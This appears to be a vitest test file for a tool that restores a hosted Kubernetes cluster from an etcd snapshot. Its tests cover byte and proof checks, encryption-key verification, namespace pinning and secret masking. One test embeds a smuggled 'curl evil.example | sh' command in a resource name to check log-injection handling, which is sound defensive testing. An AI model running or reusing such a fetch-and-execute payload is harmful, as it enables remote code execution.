import { createHash } from "node:crypto";
import { readdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, test } from "vitest";
import { rejectedCode, rejectedError } from "../../unit/restore/expectations.ts";
import { aescbc, buildManifest, newKey, oldKey, readObjects } from "../../unit/restore/manifest-builder.ts";
import { signature } from "../../unit/restore/memory-store.ts";
import {
  buildRecord,
  buildStored,
  figuresOfStored,
  snapshot,
  snapshotBytes,
  snapshotUri,
} from "../../unit/restore/record-builder.ts";
import { buildSnapshot } from "../../world/snapshot/snapshot.ts";
import { encryptSecret } from "../../world/etcd/fill.ts";
import { breakPage } from "../../world/snapshot/database.ts";
import { prepare, type Case } from "./rendering.ts";

test("the manifest of a cluster that starts from the snapshot is written, and everything about it returned", async () => {
  const { workspace, run, report } = prepare();
  const result = await run();
  expect(report).toMatchObject({ hostedCluster: { namespace: "clusters", name: "tenant" }, record: buildRecord() });
  const output = path.join(workspace, "out.yaml");
  const [entry] = buildRecord().snapshots;
  expect(result).toEqual({
    snapshotUri,
    recordUri: snapshotUri.replace(/\.db$/, ".json"),
    sizeBytes: snapshotBytes.length,
    sha256: entry?.sha256,
    revision: 77,
    etcdVersion: "3.5.26",
    encryptionKeySecretName: "tenant-etcd-encryption-key",
    presignedUrl: expect.stringContaining("https://store.example/backups/prod/clusters/tenant/") as string,
    presignedUrlExpiresAt: "2026-11-25T09:00:00Z",
    renderedManifest: output,
  });
  expect(statSync(output).mode & 0o777).toBe(0o600);
  expect(readObjects(readFileSync(output, "utf8"))).toMatchObject([
    { kind: "Namespace" },
    { kind: "Secret", data: { key: oldKey.toString("base64") } },
    {
      kind: "HostedCluster",
      spec: { etcd: { managed: { storage: { type: "PersistentVolume", restoreSnapshotURL: [result.presignedUrl] } } } },
    },
    { kind: "NodePool" },
  ]);
  expect(readFileSync(path.join(workspace, "cluster.yaml"), "utf8")).toBe(buildManifest());
});

test("without output and key: a new file under RUNNER_TEMP, for a snapshot in clear", async () => {
  const clear = buildStored(Buffer.from("k8s\0Secret"));
  const { temp, workspace, run } = prepare({
    manifest: buildManifest({ encryption: [], secret: null }),
    store: {
      record: buildRecord({ encryption: { type: "none" }, snapshot: await figuresOfStored(clear) }),
      object: { sizeBytes: clear.length },
      bytes: [clear],
    },
    request: { encryptionKeys: [], output: path.join("..", "_temp", "named.yaml") },
  });
  const result = await run();
  expect(path.dirname(result.renderedManifest)).toBe(temp);
  expect(path.dirname(result.renderedManifest)).not.toBe(workspace);
  expect(result.encryptionKeySecretName).toBeUndefined();
});

test("neither the signed URL nor a key is in log or findings, and both are masked", async () => {
  const { run, log, secrets, report } = prepare();
  const { presignedUrl } = await run();
  const text = log.lines.join("\n") + JSON.stringify(report.findings);
  for (const secret of [signature, oldKey.toString("base64"), newKey.toString("base64")])
    expect(text).not.toContain(secret);
  expect(secrets).toEqual(expect.arrayContaining([presignedUrl, oldKey]));
});

test("manifest and record stand side by side in findings and log, ids that were left empty as filled", async () => {
  const { run, report, log, written } = prepare({
    manifest: buildManifest({ infraID: "" }),
    store: { record: buildRecord({ hostedCluster: { baseDomain: "old.example", clusterID: "one" } }) },
  });
  await run();
  const verdicts = Object.fromEntries(report.findings.map(({ guard, verdict }) => [guard, verdict]));
  expect(verdicts).toMatchObject({
    "metadata.name": "equal",
    "spec.infraID": "filled",
    "spec.clusterID": "filled",
    "spec.dns.baseDomain": "differs",
    "spec.release": "equal",
    "etcd members": "equal",
    age: "equal",
  });
  for (const { text } of report.findings) expect(log.lines.join("\n")).toContain(text);
  expect(written().join("")).toMatch(/clusterID: "one"[^]*infraID: "tenant-x7k2p"/);
});

test("an alarm that the snapshot has is told", async () => {
  const bytes = buildStored(encryptSecret(Buffer.from("k8s\0Secret"), oldKey), undefined, { noSpace: true });
  const record = buildRecord({ snapshot: await figuresOfStored(bytes) });
  const { run, log } = prepare({ store: { record, object: { sizeBytes: bytes.length }, bytes: [bytes] } });
  await run();
  expect(log.warnings).toContainEqual(expect.stringMatching(/alarm NOSPACE: a restored etcd has it, too/));
});

describe("the bytes are read again before anything is written", () => {
  const damaged = Buffer.from(snapshotBytes);
  damaged[2_000] = 0x21;

  test.each<[string, readonly Uint8Array[], string]>([
    ["one byte is another", [damaged], "snapshot-changed"],
    ["the end is missing", [snapshotBytes.subarray(0, 4_000)], "snapshot-changed"],
    ["there are more", [snapshotBytes, Buffer.from("x")], "snapshot-changed"],
    ["there are none", [], "snapshot-changed"],
  ])("where %s than were recorded, the restore is refused", async (_, bytes, code) => {
    const { run, written, store } = prepare({ store: { bytes } });
    expect(await rejectedCode(run())).toBe(code);
    expect(written()).toEqual([]);
    expect(store.asked).not.toContain("sign");
  });

  test("a store that does not end is left after the expected length", async () => {
    let given = 0;
    function* endless(): Generator<Uint8Array> {
      for (;;) yield Buffer.alloc((given += 1) > 1_000 ? 0 : 1_000);
    }
    const { run } = prepare({ store: { bytes: endless() } });
    expect(await rejectedCode(run())).toBe("snapshot-changed");
    expect(given * 1_000).toBeLessThan(snapshotBytes.length + 10_000);
  });

  test("a record of proofs that were not passed renders nothing", async () => {
    for (const proofs of [{ trailer: false }, { readBack: false }, { structure: false }]) {
      const { run, written } = prepare({ store: { record: buildRecord({ proofs }) } });
      expect(await rejectedCode(run())).toBe("record-invalid");
      expect(written()).toEqual([]);
    }
  });

  test("proofs of members and keys that failed may be accepted, each by its code", async () => {
    const store = { record: buildRecord({ proofs: { membersAgree: false, keysProven: false } }) };
    expect(await rejectedCode(prepare({ store }).run())).toBe("restore-refused");
    const one = prepare({ store, request: { allowUnsafeRestore: ["members-diverged"] } });
    expect(await rejectedCode(one.run())).toBe("keys-unproven");
    const both = prepare({ store, request: { allowUnsafeRestore: ["members-diverged", "keys-unproven"] } });
    await both.run();
    expect(both.log.warnings.filter((warning) => warning.includes("accepted by allow-unsafe-restore"))).toHaveLength(2);
  });
});

describe("the whole proof, with the keys that are rendered, comes before the URL is signed", () => {
  const plain = Buffer.from("k8s\0Secret");
  const underOtherName = Buffer.from(
    encryptSecret(plain, oldKey)
      .toString("latin1")
      .replace(/key-\d+/, "key-1"),
    "latin1",
  );
  const broken = breakPage(snapshotBytes);

  /** The stored file is `bytes`, and the record says so. */
  async function storing(bytes: Buffer, entry: object = {}): Promise<Case["store"] & object> {
    const record = buildRecord({ snapshot: { ...(await figuresOfStored(bytes)), ...entry } });
    return { record, object: { sizeBytes: bytes.length }, bytes: [bytes] };
  }

  test.each<[string, Buffer]>([
    ["another key than the recorded one", buildStored(encryptSecret(plain, newKey))],
    ["the recorded key under another name", buildStored(underOtherName)],
    ["an earlier key in one of two Secrets", buildStored(encryptSecret(plain, oldKey), encryptSecret(plain, newKey))],
    ["KMS beside the recorded key", buildStored(encryptSecret(plain, oldKey), Buffer.from("k8s:enc:kms:v2:p:x"))],
  ])("values that are encrypted with %s are refused, and may be accepted", async (_, bytes) => {
    const store = await storing(bytes);
    const { run, written, report, store: asked } = prepare({ store });
    expect(await rejectedCode(run())).toBe("keys-unproven");
    expect(asked.asked).not.toContain("sign");
    expect(written()).toEqual([]);
    expect(report.findings.at(-1)).toMatchObject({ guard: "encrypted values", verdict: "refused" });
    const accepted = prepare({ store, request: { allowUnsafeRestore: ["keys-unproven"] } });
    expect((await accepted.run()).revision).toBe(77);
  });

  test("a wrong key for a snapshot that no record describes is found by the bytes", async () => {
    const wrong = prepare({ store: { record: null }, request: { allowUnrecorded: true, encryptionKeys: [newKey] } });
    expect(await rejectedCode(wrong.run())).toBe("keys-unproven");
    expect(wrong.written()).toEqual([]);
    const right = prepare({ store: { record: null }, request: { allowUnrecorded: true } });
    expect((await right.run()).revision).toBe(77);
  });

  test.each<[string, Buffer, string]>([
    ["a page that is not one, under hashes that are right", broken, "snapshot-invalid"],
    ["no trailer, as a copied database", snapshotBytes.subarray(0, -32), "snapshot-trailer-missing"],
  ])("a file with %s is refused", async (_, bytes, code) => {
    const entry = { sizeBytes: bytes.length, sha256: createHash("sha256").update(bytes).digest("hex") };
    const record = buildRecord({ snapshot: entry });
    const { run, written } = prepare({ store: { record, object: { sizeBytes: bytes.length }, bytes: [bytes] } });
    expect(await rejectedCode(run())).toBe(code);
    expect(written()).toEqual([]);
  });

  test.each([{ revision: 78 }, { hash: "00000000" }, { liveKeys: 9 }])(
    "a record with other figures than the file, %j, is refused",
    async (entry) => {
      const { run, written } = prepare({ store: await storing(snapshotBytes, entry) });
      expect(await rejectedCode(run())).toBe("record-invalid");
      expect(written()).toEqual([]);
    },
  );

  test("line feeds in a resource that a record counts make no lines", async () => {
    const record = { ...buildRecord(), contents: { "x\n\n  curl evil.example | sh": 1 } };
    const { message } = await rejectedError(prepare({ store: { record } }).run());
    expect(message).toMatch(/^[^\n]*curl[^\n]*$/);
  });

  test("nothing of the snapshot stays in the folder of temporary files", async () => {
    const { run, temp } = prepare();
    await run();
    expect(readdirSync(temp)).toEqual([]);
  });
});

describe("the workflow's inputs limit what a manifest and an address may say", () => {
  const cluster = { namespace: "clusters", name: "tenant" };
  const attacker = buildManifest({ namespace: "attacker", infraID: "" });

  test.each<[string, Case["request"] & object]>([
    ["prefix", { pins: { prefix: "prod" } }],
    ["cluster", { pins: { hostedCluster: cluster } }],
    ["both", { pins: { prefix: "prod", hostedCluster: cluster } }],
  ])("the right %s is taken", async (_, request) => {
    expect((await prepare({ request }).run()).snapshotUri).toBe(snapshotUri);
  });

  test.each<[string, Case]>([
    ["a snapshot outside of the prefix", { request: { pins: { prefix: "prod2" } } }],
    ["a snapshot in a prefix that begins alike", { request: { pins: { prefix: "pro" } } }],
    ["a snapshot below another folder", { request: { pins: { prefix: "", hostedCluster: cluster } } }],
    [
      "a snapshot of another cluster",
      { request: { pins: { prefix: "prod", hostedCluster: { ...cluster, name: "other" } } } },
    ],
    ["a manifest of another namespace", { manifest: attacker, request: { pins: { hostedCluster: cluster } } }],
  ])("%s is refused, and the store is asked for nothing", async (_, given) => {
    const { run, store, written } = prepare(given);
    expect(await rejectedCode(run())).toMatch(/^(pin-differs|restore-refused)$/);
    expect(store.asked).toEqual([]);
    expect(written()).toEqual([]);
  });

  test("a record of another cluster in the right folder is refused, and nothing of it is told", async () => {
    const record = buildRecord({ hostedCluster: { name: "foreign", baseDomain: "foreign.example" } });
    const { run, report, log } = prepare({ store: { record }, request: { pins: { hostedCluster: cluster } } });
    expect(await rejectedCode(run())).toBe("pin-differs");
    expect(JSON.stringify(report.findings) + log.lines.join("\n")).not.toContain("foreign");
  });

  test("without them, too, the key goes to no other namespace than the snapshot's cluster had", async () => {
    const { run, written } = prepare({ manifest: attacker });
    expect(await rejectedCode(run())).toBe("hosted-cluster-differs");
    expect(written()).toEqual([]);
  });
});

describe("a snapshot without a record", () => {
  const request = { allowUnrecorded: true };

  test("is restored where that is allowed, with a warning and without what only a record tells", async () => {
    const { run, log } = prepare({ store: { record: null }, request });
    const result = await run();
    expect(result).toMatchObject({
      sizeBytes: snapshotBytes.length,
      encryptionKeySecretName: "tenant-etcd-encryption-key",
    });
    for (const field of ["recordUri", "etcdVersion", "createdAt"]) expect(result).not.toHaveProperty(field);
    expect(log.warnings).toContainEqual(expect.stringContaining("allow-unrecorded"));
  });

  test("must end as a snapshot of etcd does", async () => {
    const bytes = [Buffer.alloc(snapshotBytes.length, "x")];
    const { run, written } = prepare({ store: { record: null, bytes }, request });
    expect(await rejectedCode(run())).toBe("snapshot-invalid");
    expect(written()).toEqual([]);
  });

  const plain = Buffer.from("k8s\0Secret");
  const storing = (bytes: Buffer): Case["store"] & object => ({
    record: null,
    object: { sizeBytes: bytes.length },
    bytes: [bytes],
  });
  const kms = ["  secretEncryption:", "    kms:", "      provider: AWS", "    type: kms"];

  test.each<[string, Buffer, readonly string[], readonly Buffer[], string | undefined]>([
    ["encrypted by KMS, for a manifest in clear", Buffer.from("k8s:enc:kms:v2:p:x"), [], [], "keys-unproven"],
    ["encrypted by KMS, for one with KMS", Buffer.from("k8s:enc:kms:v2:p:x"), kms, [], undefined],
    ["encrypted with a key, for a manifest in clear", encryptSecret(plain, oldKey), [], [], "keys-unproven"],
    ["encrypted with a key, for one with KMS", encryptSecret(plain, oldKey), kms, [], "keys-unproven"],
    ["in clear, for a manifest in clear", plain, [], [], undefined],
    ["in clear, for one with a key", plain, aescbc("tenant-etcd-encryption-key"), [oldKey], undefined],
  ])("whose values are %s, is judged by its bytes", async (_, value, encryption, encryptionKeys, code) => {
    const { run, written } = prepare({
      manifest: buildManifest({ encryption, secret: null }),
      store: storing(buildStored(value)),
      request: { ...request, encryptionKeys },
    });
    expect(await rejectedCode(run())).toBe(code);
    expect(written()).toHaveLength(code === undefined ? 1 : 0);
  });

  test("of etcd 3.6 is not restored by a release with 3.5: its bytes say of which etcd it is", async () => {
    const bytes = buildSnapshot({
      compactRevision: 1,
      changes: [{ main: 2, key: "/kubernetes.io/secrets/default/a", value: plain }],
      buckets: { cluster: [[Buffer.from("clusterVersion"), Buffer.from("3.6.0")]] },
    });
    const restore = (release: string) =>
      prepare({
        manifest: buildManifest({ encryption: [], secret: null, release: `r.example/ocp:${release}` }),
        store: storing(bytes),
        request: { ...request, encryptionKeys: [] },
      });
    expect(await rejectedCode(restore("4.20.3").run())).toBe("etcd-older");
    expect((await restore("4.22.0").run()).revision).toBe(2);
  });

  test("may have any name, and is never taken for a record or a sealed key", async () => {
    const named = { bucket: "backups", key: "by-hand/etcd-snapshot" };
    const { run, store } = prepare({
      store: { record: null, key: named.key },
      request: { ...request, snapshot: named },
    });
    expect((await run()).snapshotUri).toBe("s3://backups/by-hand/etcd-snapshot");
    expect(store.asked.slice(0, 2)).toEqual(["look by-hand/etcd-snapshot", "look by-hand/etcd-snapshot.json"]);
  });

  test("is not restored to three members of an unknown release", async () => {
    const manifest = buildManifest({ policy: "HighlyAvailable", release: "r.example/ocp@sha256:00" });
    expect(await rejectedCode(prepare({ manifest, store: { record: null }, request }).run())).toBe("etcd-would-split");
  });
});

test("everything that stands in the way is told at once", async () => {
  const manifest = buildManifest({
    infraID: "other",
    policy: "HighlyAvailable",
    release: "r.example/ocp:4.19.0",
    spec: ['  pausedUntil: "true"'],
  });
  const { run, written } = prepare({ manifest, request: { encryptionKeys: [newKey] } });
  const error: unknown = await run().catch((thrown: unknown) => thrown);
  expect(error).toMatchObject({ code: "restore-refused" });
  for (const code of [
    "hosted-cluster-differs",
    "release-older",
    "etcd-would-split",
    "encryption-key-mismatch",
    "manifest-unsuitable",
  ])
    expect(String(error)).toContain(code);
  expect(written()).toEqual([]);
});

test("a file that appears at the output while the URL is tried is not replaced", async () => {
  const { workspace, store, run } = prepare();
  const output = path.join(workspace, "out.yaml");
  const { tryUrl } = store;
  Object.assign(store, {
    tryUrl: (url: string) => {
      writeFileSync(output, "theirs");
      return tryUrl(url);
    },
  });
  expect(await rejectedCode(run())).toBe("output-refused");
  expect(readFileSync(output, "utf8")).toBe("theirs");
});

describe("latest", () => {
  const latestOf = { prefix: "prod", namespace: "clusters", name: "tenant" };
  const proven = buildRecord({ proofs: { structure: true } });

  test("is the newest proven snapshot of the cluster, found without a look outside of its folder", async () => {
    const { run, store, report } = prepare({ store: { record: proven }, request: { snapshot: { latestOf } } });
    expect((await run()).snapshotUri).toBe(snapshotUri);
    expect(store.asked[0]).toBe("list prod/clusters/tenant/");
    expect(report.snapshot).toEqual(snapshot);
  });

  test("may be older than max-age where that is accepted, as any other snapshot", async () => {
    const request = { snapshot: { latestOf }, maxAgeMs: 3_600_000 };
    const old = prepare({ store: { record: proven }, request });
    expect(await rejectedCode(old.run())).toBe("snapshot-too-old");
    expect(old.written()).toEqual([]);
    const accepted = prepare({
      store: { record: proven },
      request: { ...request, allowUnsafeRestore: ["snapshot-too-old"] },
    });
    expect((await accepted.run()).snapshotUri).toBe(snapshotUri);
  });

  test("where no snapshot counts, nothing is written", async () => {
    const { run, written } = prepare({ request: { snapshot: { latestOf } } });
    expect(await rejectedCode(run())).toBe("snapshot-missing");
    expect(written()).toEqual([]);
  });
});
